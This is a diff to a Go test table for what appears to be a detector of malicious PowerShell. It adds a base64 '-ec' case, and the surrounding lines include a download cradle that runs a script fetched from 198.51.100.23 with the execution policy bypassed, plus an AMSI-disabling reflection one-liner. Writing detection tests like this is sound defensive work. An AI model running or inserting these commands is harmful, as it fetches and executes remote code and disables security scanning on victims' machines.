@@ -28,6 +28,7 @@ func TestRules(t *testing.T) {
 			[]string{"encoded_command", "hidden_window", "policy_bypass"}},
 		{"EncodedCommand spelled out", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi`,
 			[]string{"encoded_command"}},
+		{"-ec alias", `powershell -ec SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgACcA`, []string{"encoded_command"}},
 		{"cradle", `powershell -ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"`,
 			[]string{"download_cradle", "invoke_expression", "policy_bypass"}},
 		{"amsi", `powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"`,
